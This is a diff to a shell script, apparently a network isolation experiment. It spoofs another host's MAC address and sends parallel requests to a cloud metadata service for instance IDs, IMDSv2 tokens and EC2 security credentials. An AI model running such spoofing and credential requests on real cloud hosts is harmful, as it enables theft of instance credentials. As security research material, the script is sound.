@@ -43,23 +43,28 @@ GW=$(ip route | awk '/^default/ {print $3; exit}')
 ping -c 1 -W 2 "$GW" >/dev/null 2>&1
 GWMAC=$(awk -v gw="$GW" '$1 == gw {print $4}' /proc/net/arp)
 echo "info a=$AIP/$AMAC gw=$GW/$GWMAC b=$BIP/$BMAC" >>$OUT
-attempts() {
+attempt() {  # MODE I: the three requests of attempt I, at once (each bounded by its timeout)
+    { r=$(timeout 5 wget -q -O - "http://$IMDS/latest/meta-data/instance-id" 2>/dev/null | tr -d '\n')
+      echo "$1 v1-id $2 [$r]" >>$OUT; } &
+    { r=$(timeout 5 wget -q -O - \
+            "http://$IMDS/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance" \
+            2>/dev/null | tr -d '\n')
+      echo "$1 v1-creds $2 [$r]" >>$OUT; } &
+    { t=$({ printf 'PUT /latest/api/token HTTP/1.0\r\nHost: %s\r\nX-aws-ec2-metadata-token-ttl-seconds: 60\r\n\r\n' \
+            "$IMDS"; sleep 2; } | timeout 5 nc -w 3 "$IMDS" 80 2>/dev/null | tr -d '\r' | sed '1,/^$/d' | tr -d '\n')
+      r=""
+      [ -n "$t" ] && r=$(timeout 5 wget -q -O - --header "X-aws-ec2-metadata-token: $t" \
+            "http://$IMDS/latest/meta-data/instance-id" 2>/dev/null | tr -d '\n')
+      echo "$1 v2-id $2 [$t$r]" >>$OUT; } &
+    wait
+}
+attempts() {  # MODE: N attempts at once (a spoofed request waits out its timeout: in parallel, once)
     i=0
     while [ $i -lt "$N" ]; do
         i=$((i + 1))
-        r=$(timeout 5 wget -q -O - "http://$IMDS/latest/meta-data/instance-id" 2>/dev/null | tr -d '\n')
-        echo "$1 v1-id $i [$r]" >>$OUT
-        r=$(timeout 5 wget -q -O - \
-            "http://$IMDS/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance" \
-            2>/dev/null | tr -d '\n')
-        echo "$1 v1-creds $i [$r]" >>$OUT
-        t=$({ printf 'PUT /latest/api/token HTTP/1.0\r\nHost: %s\r\nX-aws-ec2-metadata-token-ttl-seconds: 60\r\n\r\n' \
-            "$IMDS"; sleep 2; } | timeout 5 nc -w 3 "$IMDS" 80 2>/dev/null | tr -d '\r' | sed '1,/^$/d' | tr -d '\n')
-        r=""
-        [ -n "$t" ] && r=$(timeout 5 wget -q -O - --header "X-aws-ec2-metadata-token: $t" \
-            "http://$IMDS/latest/meta-data/instance-id" 2>/dev/null | tr -d '\n')
-        echo "$1 v2-id $i [$t$r]" >>$OUT
+        attempt "$1" $i &
     done
+    wait
 }
 as_self() {
     ip link set eth0 down; ip link set eth0 address "$AMAC"; ip link set eth0 up
